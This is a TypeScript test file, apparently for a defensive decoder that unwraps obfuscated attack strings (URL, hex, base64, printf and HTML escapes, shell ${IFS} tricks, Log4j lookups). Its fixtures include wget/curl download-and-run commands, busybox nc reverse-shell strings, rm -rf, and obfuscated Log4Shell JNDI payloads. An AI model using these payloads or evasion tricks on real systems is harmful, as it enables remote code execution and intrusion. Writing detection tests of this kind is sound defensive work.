import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  decodeLayers, MAX_LAYER_CHARS, MAX_LAYERS, MAX_TOTAL_CHARS,
} from './decode.js';

const URL_TEXT = 'wget http://198.51.100.7/x.sh';
const b64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const hex = (text: string): string => Buffer.from(text, 'latin1').toString('hex');

/** Within the documented bounds: count, size of each layer, size of all. */
function expectBounded(layers: string[]): void {
  expect(layers.length).toBeLessThanOrEqual(MAX_LAYERS);
  for (const layer of layers) expect(layer.length).toBeLessThanOrEqual(MAX_LAYER_CHARS);
  expect(layers.reduce((n, l) => n + l.length, 0)).toBeLessThanOrEqual(MAX_TOTAL_CHARS);
}

describe('each decoder alone', () => {
  it('URL-decodes %XX, and + as a space only in form-encoded values', () => {
    expect(decodeLayers('/shell?cd%20%2Ftmp%3B%20wget%20http%3A%2F%2F198.51.100.82%2Fa'))
      .toEqual(['/shell?cd /tmp; wget http://198.51.100.82/a']);
    expect(decodeLayers('cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m+-O+/tmp/n'))
      .toEqual(['cmd=rm -rf /tmp/*;wget http://192.0.2.1/m -O /tmp/n']);
    expect(decodeLayers('chmod +x a; ./a')).toEqual([]);
  });

  it('decodes UTF-8 percent runs as UTF-8', () => {
    expect(decodeLayers('q=%E3%83%91%E3%82%B9')).toEqual(['q=パス']);
  });

  it('decodes echo -e and printf escapes: \\xNN, \\0NNN, \\NNN', () => {
    expect(decodeLayers(String.raw`echo -e '\x77\x67\x65\x74'`)).toContain("echo -e 'wget'");
    expect(decodeLayers(String.raw`echo -e "\0167\0147et"`)).toContain('echo -e "wget"');
    expect(decodeLayers(String.raw`printf '\167\147\145\164'`)).toContain("printf 'wget'");
  });

  it('decodes long hex runs that read as text, and leaves digests alone', () => {
    expect(decodeLayers(`x ${hex(URL_TEXT)} y`)).toEqual([`x ${URL_TEXT} y`]);
    expect(decodeLayers(`0x${hex(URL_TEXT)}`)).toEqual([URL_TEXT]);
    expect(decodeLayers('fb101f4db773ad15e3de4016e4b6516a7232dc499d8869a279524bf34a28f156'))
      .toEqual([]);
  });

  it('decodes bare base64 blobs of 16 characters or more that read as text', () => {
    expect(decodeLayers(`base64_decode("${b64(URL_TEXT)}")`))
      .toEqual([`base64_decode("${URL_TEXT}")`]);
    expect(decodeLayers('NewPortMappingDescription /usr/local/lib/php/pearcmd')).toEqual([]);
    expect(decodeLayers(b64('\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008'))).toEqual([]);
  });

  it('leaves form-encoded words that happen to decode as text, and half-padded runs', () => {
    expect(decodeLayers('c=busybox+nc+-emg+NiYle+mougs+-e+sh'))
      .toEqual(['c=busybox nc -emg NiYle mougs -e sh']);
    expect(decodeLayers('/x?busybox+nc+-e0s+8a+dvu+XtmY+-e+/bin/sh')).toEqual([]);
    const padded = b64('wget http://198.51.100.7/xyz');
    expect(padded.endsWith('==')).toBe(true);
    expect(decodeLayers(padded)).toEqual(['wget http://198.51.100.7/xyz']);
    expect(decodeLayers(padded.slice(0, -1))).toEqual([]);
  });

  it('keeps a script with some UTF-8 in it, and drops a decode mostly outside ASCII', () => {
    const script = 'echo "готово"; wget http://198.51.100.7/x.sh -O- | sh';
    expect(decodeLayers(b64(Buffer.from(script).toString('latin1')))).toEqual([script]);
    expect(decodeLayers(b64(Buffer.from('готово готово готово').toString('latin1')))).toEqual([]);
  });

  it('decodes echo X | base64 -d in place of the echo, even a short or quoted X', () => {
    expect(decodeLayers(`echo ${b64(URL_TEXT)} | base64 -d | sh`)).toEqual([`${URL_TEXT} | sh`]);
    expect(decodeLayers(`echo "${b64('id;ls')}" | base64 --decode`)).toEqual(['id;ls']);
  });

  it('decodes HTML entities that end in a semicolon', () => {
    expect(decodeLayers('&#119;&#x67;et http:&#x2F;&#x2F;x &amp; y')).toEqual(['wget http://x & y']);
    expect(decodeLayers('a=1&currentsetting.htm=1')).toEqual([]);
  });

  it('undoes literal shell tricks: IFS, glued quotes, escaped letters, $@', () => {
    expect(decodeLayers('cd${IFS}/tmp;wget${IFS}http://x/a')).toEqual(['cd /tmp;wget http://x/a']);
    expect(decodeLayers('wget$IFS$9http://x/a;cd$IFS/tmp')).toEqual(['wget http://x/a;cd /tmp']);
    expect(decodeLayers(`w'g'e"t" "h"ttp://x`)).toEqual(['wget http://x']);
    expect(decodeLayers(String.raw`w\g\e\t http://x`)).toContain('wget http://x');
    expect(decodeLayers('w$@ge$*t x')).toEqual(['wget x']);
  });

  it('substitutes literal variables in script order, and never runs $(...)', () => {
    const script = 'nam="cert"\neds="https://example.net/a/$nam"\ncurl -o $nam $eds';
    expect(decodeLayers(script)).toEqual([
      'nam="cert"\neds="https://example.net/a/cert"\ncurl -o cert https://example.net/a/cert',
    ]);
    expect(decodeLayers('d=$(echo x); cd ${d}')).toEqual([]);
    expect(decodeLayers("u='$x'; wget $u")).toEqual(["u='$x'; wget $x"]);
  });

  it('bounds what substitution adds: doubling values and many references', () => {
    const doubling = `a=xxxxxxxx; ${'a=$a$a; '.repeat(40)}echo $a`;
    const [layer] = decodeLayers(doubling);
    expect(layer?.length).toBeLessThanOrEqual(2 * doubling.length);
    const many = `v=${'y'.repeat(200)}; ${'$v '.repeat(1000)}`;
    expect(decodeLayers(many)[0]?.length).toBeLessThanOrEqual(many.length + 4096);
  });
});

describe('Log4j lookups', () => {
  it('spell out ${lower:}, ${upper:} and :- defaults, nested ones a round each', () => {
    const hidden = '${${lower:J}ndi:${::-l}${env:NaN:-d}ap://198.51.100.5:1389/a}';
    expect(decodeLayers(hidden)).toContain('${jndi:ldap://198.51.100.5:1389/a}');
    expect(decodeLayers('${jndi:${lower:l}${lower:d}a${lower:p}://example.com/a}'))
      .toEqual(['${jndi:ldap://example.com/a}']);
  });
});

describe('JNDI exploit commands', () => {
  it('decode the base64 command of the lookup\'s path on a line of its own', () => {
    const lookup = `\${jndi:ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(URL_TEXT)}}`;
    expect(decodeLayers(lookup)).toEqual([
      `\${jndi:ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(URL_TEXT)}\n${URL_TEXT}\n}`,
    ]);
  });

  it('decode it after the lookup is spelled out and the path percent-decoded', () => {
    const blob = b64('curl -s http://198.51.100.8/a.sh?x=1>/tmp/a;sh /tmp/a');
    expect(blob).toMatch(/[+/]/);
    const hidden = `\${\${lower:j}ndi:ldap://198.51.100.5:1389/TomcatBypass/Command/Base64/`
      + `${encodeURIComponent(blob)}}`;
    expect(decodeLayers(hidden).some((layer) => layer.includes(
      '\ncurl -s http://198.51.100.8/a.sh?x=1>/tmp/a;sh /tmp/a\n'))).toBe(true);
  });
});

describe('layers', () => {
  it('decode four nested base64 inside a percent-encoded value: five rounds', () => {
    let blob = URL_TEXT;
    for (let i = 0; i < 4; i++) blob = b64(blob);
    const escaped = [...blob].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
    expect(decodeLayers(`cmd=${escaped}`)).toContain(`cmd=${URL_TEXT}`);
  });

  it('decode recursively: base64 of URL-encoding of shell tricks', () => {
    const inner = encodeURIComponent('wget${IFS}http://198.51.100.9/b');
    const layers = decodeLayers(`echo ${b64(inner)} | base64 -d | sh`);
    expect(layers).toContain('wget http://198.51.100.9/b | sh');
  });

  it('are distinct from the input and from each other', () => {
    const text = `${b64(URL_TEXT)} %41%42 ${hex('hello there!')}`;
    const layers = decodeLayers(text);
    expect(layers.length).toBeGreaterThan(2);
    expect(new Set([text, ...layers]).size).toBe(layers.length + 1);
  });

  it('are remembered for a text decoded again, and a caller cannot change them', () => {
    const text = `echo ${b64(URL_TEXT)} | base64 -d | sh`;
    const first = decodeLayers(text);
    first.push('changed by the caller');
    expect(decodeLayers(text)).toEqual([`${URL_TEXT} | sh`]);
  });

  it('stop at the decoding depth: ten nested base64 give five layers', () => {
    let text = URL_TEXT;
    for (let i = 0; i < 10; i++) text = b64(text);
    const layers = decodeLayers(text);
    expect(layers).toHaveLength(5);
    expect(layers[0]).toBe(Buffer.from(text, 'base64').toString('latin1'));
  });
});

describe('hostile input', () => {
  const hostile: Record<string, string> = {
    'random bytes': randomBytes(64 * 1024).toString('latin1'),
    'http:// repeated': 'http://'.repeat(Math.ceil(65536 / 7)),
    '%25 repeated': '%25'.repeat(Math.ceil(65536 / 3)),
    'nested base64': (() => {
      let t = 'wget http://198.51.100.7/' + 'a'.repeat(1000);
      while (t.length < 64 * 1024) t = b64(t);
      return t;
    })(),
    'every decoder at once':
      `${'%41\\x41&#65;${IFS}w\'g\'et '.repeat(2000)}${b64('x'.repeat(30000))}`,
  };

  for (const [name, text] of Object.entries(hostile)) {
    it(`${name} (64 KiB) decodes within bounds and a generous time`, () => {
      const started = performance.now();
      const layers = decodeLayers(text);
      // A safety bound far above the expected few ms, so a slow machine does not fail it.
      expect(performance.now() - started).toBeLessThan(2000);
      expectBounded(layers);
    });
  }
});

describe('properties', () => {
  it('never throws, returns bounded layers different from the input', () => {
    const piece = fc.constantFrom('%2', '%41', '+', '=', '\\x7', '\\x41', '\\0', '&#', '&amp;',
      '${IFS}', "'", '"', '\\', '$', 'echo ', ' | base64 -d', 'QUJD', 'd2dldA==', '4142', 'x=');
    const text = fc.oneof(fc.string({ maxLength: 300 }), fc.array(piece, { maxLength: 60 })
      .map((parts) => parts.join('')), fc.uint8Array({ maxLength: 300 })
      .map((b) => Buffer.from(b).toString('latin1')));
    fc.assert(fc.property(text, (t) => {
      const layers = decodeLayers(t);
      expectBounded(layers);
      expect(layers).not.toContain(t);
      expect(new Set(layers).size).toBe(layers.length);
    }), { numRuns: 500 });
  });
});
